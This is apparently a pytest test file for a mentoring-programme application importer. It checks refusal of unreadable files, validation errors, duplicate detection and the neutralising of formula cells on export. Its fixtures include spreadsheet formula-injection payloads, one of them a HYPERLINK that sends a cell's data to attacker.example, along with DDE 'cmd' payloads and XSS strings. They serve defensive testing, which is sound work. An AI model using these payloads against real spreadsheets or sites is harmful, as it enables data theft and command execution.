import pytest

from tandem.tabular.applications import prepare_applications
from tandem.tabular.errors import FileRefused
from tandem.tabular.export import safe_cell
from tandem.tabular.mapping import suggest_mapping

from .conftest import corpus_table


def _preview(name: str, **options):
    table = corpus_table(f"bad/{name}", **options)
    return prepare_applications(table, suggest_mapping(table))


def _expertise_or_goals(values: dict) -> str:
    """The template's one column becomes expertise for mentors, goals for mentees."""
    return values.get("expertise") or values.get("goals")


def _errors(preview) -> list[tuple]:
    return [(e.row, e.column, e.value) for e in preview.errors]


REFUSED_BEFORE_READING = {
    "applications-screenshot.csv": "not a CSV/text file (an image)",
    "empty.csv": "the file is empty",
    "header-only.csv": "no data rows",
    "no-header-row.csv": (
        "no header row: row 1 looks like data (it contains an e-mail address)"
    ),
}


@pytest.mark.parametrize("name", REFUSED_BEFORE_READING)
def test_unreadable_files_are_refused_with_a_reason(name):
    with pytest.raises(FileRefused) as refused:
        corpus_table(f"bad/{name}")

    assert refused.value.reason == REFUSED_BEFORE_READING[name]
    assert refused.value.filename == name


REFUSED_WITH_ERRORS = {
    "formula-injection.csv": [
        (
            3,
            "Full name",
            '=HYPERLINK("http://attacker.example/steal?d="&B3,"Zobacz profil")',
        ),
        (4, "Years of experience", "-2+3"),
        (6, "E-mail", "@SUM(1+1)*cmd|' /C calc'!A0"),
        (8, "Capacity", "=1+2"),
    ],
    "required-fields-empty.csv": [
        (3, "E-mail", ""),
        (5, "Full name", "   "),
        (7, "Association", ""),
        (8, "Pair preference", ""),
        (10, "Consent", ""),
        (12, "Native language", ""),
    ],
    "ragged-rows.csv": [(5, "", ""), (8, "", "")],
    "invalid-emails.csv": [
        (3, "E-mail", "jan.kowalski@"),
        (5, "E-mail", "anna nowak@example.pl"),
        (6, "E-mail", "zsofia@@example.hu"),
        (8, "E-mail", "peter.duris@.example.sk"),
        (10, "E-mail", "ondrej.kucera@example,cz"),
        (11, "E-mail", "mailto:marta@example.pl"),
        (13, "E-mail", "tereza.dvorakova(at)example.cz"),
    ],
    "mentor-capacity-invalid.csv": [
        (3, "Capacity", "zero"),
        (4, "Capacity", "-1"),
        (5, "Capacity", "10"),
        (7, "Capacity", "0"),
        (8, "Capacity", "2,5"),
        (9, "Capacity", ""),
    ],
}


@pytest.mark.parametrize("name", REFUSED_WITH_ERRORS)
def test_refused_files_list_exactly_the_expected_errors(name):
    preview = _preview(name)

    assert _errors(preview) == REFUSED_WITH_ERRORS[name]
    assert not preview.committable


def test_ragged_rows_say_how_many_cells_they_have():
    preview = _preview("ragged-rows.csv")

    messages = [(e.row, e.message) for e in preview.errors]

    assert messages == [
        (5, "20 cells, the header has 19"),
        (8, "12 cells, the header has 19"),
    ]


def test_capacity_errors_say_what_was_expected():
    preview = _preview("mentor-capacity-invalid.csv")

    messages = {e.row: e.message.split(";")[0] for e in preview.errors}

    assert messages == {
        3: "not a number 1–3",
        4: "not a number 1–3",
        5: "more than 3",
        7: "less than 1",
        8: "not a whole number",
        9: "required for a mentor",
    }


def test_formula_like_free_text_is_stored_verbatim_and_neutralised_on_export():
    preview = _preview("formula-injection.csv")
    rows = {r.row: r for r in preview.rows}

    employer = rows[4].values["employer"]
    motivation = rows[9].values["motivation"]
    linkedin_warnings = [(w.row, w.message) for w in rows[7].warnings]

    assert employer == "+cmd|' /C calc'!A0"
    assert motivation.startswith("=1+1 is how I feel")
    assert safe_cell(employer) == "'+cmd|' /C calc'!A0"
    assert safe_cell(motivation).startswith("'=1+1")
    assert linkedin_warnings == [(7, "not a URL")]


def test_duplicate_applicants_are_flagged_never_merged():
    preview = _preview("duplicate-applicants.csv")

    groups = {(g.refs, g.reason) for g in preview.duplicate_groups}

    assert groups == {
        ((3, 11), "same e-mail address"),
        ((6, 15), "same e-mail address"),
        ((7, 16), "same name with and without diacritics in the same association"),
    }
    assert len(preview.rows) == 21
    assert preview.committable
    assert preview.needs_decisions


def test_multiline_cells_count_as_one_record_each():
    preview = _preview("multiline-quoted-cells_VALID.csv")
    rows = {r.row: r.values for r in preview.rows}

    assert preview.errors == []
    assert sorted(rows) == [2, 3, 4, 5, 6, 7]
    assert _expertise_or_goals(rows[2]) == (
        "Three things I can help with:\r\n1. negotiation, pricing; contracts\r\n"
        '2. "difficult" conversations\r\n3. leading a team of 12, remotely'
    )
    assert rows[4]["motivation"] == (
        "Line one\nline two, with a comma; and a semicolon\n\nline four after an "
        "empty line"
    )
    assert rows[5]["employer"] == 'Kowalczyk, Nowak & "Partnerzy"'
    assert (rows[7]["full_name"], rows[7]["email"]) == (
        "Virág Papp",
        "viragpapp92@example.net",
    )


def test_html_in_free_text_is_kept_exactly():
    preview = _preview("html-in-text_VALID.csv")
    rows = {r.row: r.values for r in preview.rows}

    assert preview.errors == []
    assert len(rows) == 8
    assert rows[3]["motivation"] == (
        "<script>alert('Tandem')</script> I want to learn how to lead a team."
    )
    assert _expertise_or_goals(rows[6]) == (
        "I build <b>bold</b> products & <i>care</i> about <img src=x onerror=alert(1)>"
        " accessibility."
    )
    assert rows[8]["employer"] == "<Acme> & Söhne GmbH"
    assert _expertise_or_goals(rows[9]) == 'Salary range: <5k & >2k EUR; "R&D" team'


def test_two_sheets_workbook_reads_the_sheet_with_a_header():
    preview = _preview("two-sheets_data-on-second.xlsx")
    table = corpus_table("bad/two-sheets_data-on-second.xlsx")
    rows = {r.row: r.values for r in preview.rows}

    assert table.sheet_names == ["Instructions", "Responses"]
    assert table.sheet == "Responses"
    assert preview.errors == []
    assert len(rows) == 24
    assert (rows[2]["full_name"], rows[2]["email"]) == (
        "Dariusz Gołębiowski",
        "golebiowski.dariusz@example.net",
    )
    assert (rows[25]["full_name"], rows[25]["email"]) == (
        "Paweł Dąbrowski",
        "p.dabrowski@example.pl",
    )


def test_reading_only_the_instructions_sheet_is_refused():
    with pytest.raises(FileRefused) as refused:
        corpus_table("bad/two-sheets_data-on-second.xlsx", sheet="Instructions")

    assert refused.value.reason == (
        "sheet 'Instructions' has no header row: row 1 has fewer than two titles"
    )
